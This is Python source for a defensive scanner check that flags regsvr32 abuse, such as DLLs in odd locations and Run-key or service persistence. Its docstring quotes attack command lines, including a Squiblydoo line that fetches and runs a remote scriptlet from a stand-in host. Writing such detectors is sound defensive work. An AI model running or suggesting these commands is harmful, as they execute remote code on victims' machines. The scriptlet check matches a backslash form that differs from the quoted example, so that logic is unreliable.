r"""regsvr32 anomaly: it goes on running, or starts anew, with what nobody installed.

    regsvr32.exe /s "C:\Users\t\AppData\Local\RWVBqVeOOVI\aAwwxjxqAjEbi.dll"
    regsvr32.exe ..\wn1.ocx          given by an Excel file
    regsvr32.exe /s /u /i:http://192.0.2.1/a.sct scrobj.dll
    a service, or a value of Run, that is regsvr32

Emotet from February 2022.  Left alone: add-ins that programs register, Teams and OneDrive
in the user's own folders among them.
"""

from __future__ import annotations

from collections.abc import Iterator

from honmono.sweep.scanner._core import Answer, Artefacts, Finding, Knowledge
from honmono.sweep.scanner.checks._answers import NOT_WINDOWS, answer
from honmono.sweep.scanner.commands import Command, Module, command, is_writable, loaded
from honmono.sweep.scanner.lonely import is_lonely
from honmono.sweep.scanner.machine import (
    Listed,
    blind,
    files,
    folder_of,
    is_windows,
    missing,
    processes,
    run_key,
    sid_of,
    text,
    unsaid,
    values,
    variables,
)
from honmono.sweep.scanner.paths import base, program

_ENDINGS = frozenset({"dll", "ocx", "ax", "cpl", "tlb", "acm", "vxd", "drv", "exe"})
_NAME = "regsvr32-anomaly"


def check(artefacts: Artefacts, knowledge: Knowledge) -> Answer:
    """Does regsvr32 run, or start, something that no ordinary program gives it?"""
    if not is_windows(artefacts):
        return NOT_WINDOWS
    running = list(processes(artefacts))
    hosts = [one for one in running if one.name == program("regsvr32")]
    folders = folder_of(list(files(artefacts)))
    found = [
        Finding(_NAME, module.path, one.pid, one.said)
        for one in hosts
        for line in [command(one.said)]
        for module in [loaded(line)]
        if is_odd(line, module, folders)
    ]
    found += _started(artefacts, folders)
    why = missing(artefacts, "processes", "registry", "services")
    why = why or ("no-files" if artefacts.files is None else "")
    why = why or unsaid(artefacts.services)
    if not why and any(not one.line for one in hosts):
        why = "no-command-lines"
    return answer(found, why or blind(artefacts, running, "line"))


def is_odd(line: Command, module: Module, folders: dict[str, list[Listed]]) -> bool:
    """Is it a command that no ordinary program gives to regsvr32?"""
    if line.program != program("regsvr32"):
        return False
    if "scrobj" in line.line and "\\i:http" in line.line:
        return True
    if is_odd_ending(module.path):
        return True
    return is_lonely(module.path, folders)


def is_odd_ending(path: str) -> bool:
    """A file that anybody may have put there, and that says it is no library."""
    ending = base(path).rpartition(".")[2]
    return is_writable(path) and "." in base(path) and ending not in _ENDINGS


def _started(
    artefacts: Artefacts, folders: dict[str, list[Listed]]
) -> Iterator[Finding]:
    """Values of Run, and services: no program starts itself through regsvr32."""
    for value in values(artefacts):
        if run_key(value.key) != "run" or "regsvr32" not in value.data.lower():
            continue
        known = variables(artefacts, sid_of(value.hive))
        line = command(value.data, known)
        module = loaded(line, known)
        if is_odd(line, module, folders) or is_lonely_named(line, module):
            where = f"{value.hive}\\{value.key}\\{value.name}"
            yield Finding(_NAME, module.path, "", where + " = " + value.data)
    for row in artefacts.services or ():
        line = command(row.get("command_line"))
        if line.program == program("regsvr32"):
            detail = text(row.get("name")) + " = " + text(row.get("command_line"))
            yield Finding(_NAME, loaded(line).path, "", detail)


def is_lonely_named(line: Command, module: Module) -> bool:
    """Started at each logon from a folder of that shape: then nobody need see the disk."""
    alone = {module.path.rpartition("\\")[0]: [_only(module.path)]}
    return line.program == program("regsvr32") and is_lonely(module.path, alone)


def _only(path: str) -> Listed:
    return Listed(path, None, None, "", "", False, path)
